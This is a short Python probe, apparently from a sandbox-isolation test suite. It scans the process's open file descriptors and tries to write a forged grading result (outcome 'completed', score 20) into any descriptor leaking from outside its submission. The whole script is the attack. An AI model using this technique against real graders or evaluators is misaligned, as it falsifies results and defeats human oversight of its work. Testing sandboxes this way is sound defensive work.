from attaque import *
for fd in range(3, 1024):
    try:
        where = os.readlink(f"/proc/self/fd/{fd}")
    except OSError:
        continue
    if "/submission" in where or where.startswith("/proc/"):
        continue  # the program's own file, and the listing itself
    escaped(7, f"descriptor {fd}: {where}")
    try:
        os.write(fd, b'{"outcome": "completed", "score": 20}')
    except OSError:
        pass
tried(7, "1021 descriptors")

serve()
